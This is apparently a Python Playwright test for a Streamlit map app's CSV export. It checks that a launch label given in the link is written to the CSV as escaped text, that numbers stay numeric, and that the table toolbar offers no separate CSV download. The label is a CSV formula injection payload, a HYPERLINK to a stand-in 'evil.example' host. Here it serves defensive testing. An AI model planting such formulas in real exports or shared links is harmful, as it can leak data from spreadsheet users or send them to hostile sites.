"""The app's CSV download in the real browser: a launch label that a spreadsheet would run as a
formula (``=HYPERLINK(...)``, from a shared link) is written as text, numbers stay numbers,
the link keeps the label as typed, and the tables offer no CSV of their own (Streamlit's toolbar
would write the label as it is)."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from harness.pages import download, map_frame, query, wait_for_rings

pytestmark = pytest.mark.browser

LABEL = '=HYPERLINK("http://evil.example/?leak","Click me")'


def test_a_formula_label_is_text_in_the_downloaded_csv(server: str, page: Page):
    point = f"50.45,30.52,{LABEL}"
    page.goto(f"{server}/?systems=atacms&from={quote(point, safe='')}&minpop=1000000")
    assert wait_for_rings(map_frame(page), 1)
    text = download(page, "Export", "CSV (cities in range)").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and {r["launch"] for r in rows} == {"'" + LABEL}
    assert "Kyiv" in {r["city"] for r in rows}
    for row in rows:  # numbers are written as numbers
        float(row["latitude"]), float(row["distance_km"]), int(row["population"])
    assert query(page)["from"] == [point]  # the link keeps the label as typed

    page.get_by_role("tab", name="In range").click()
    table = page.locator('[data-testid="stDataFrame"]').last
    table.scroll_into_view_if_needed()
    table.hover()
    toolbar = page.locator('[data-testid="stElementToolbar"]').last
    expect(toolbar.get_by_role("button").first).to_be_visible(timeout=10_000)  # search etc.
    assert page.get_by_role("button", name="Download as CSV").count() == 0
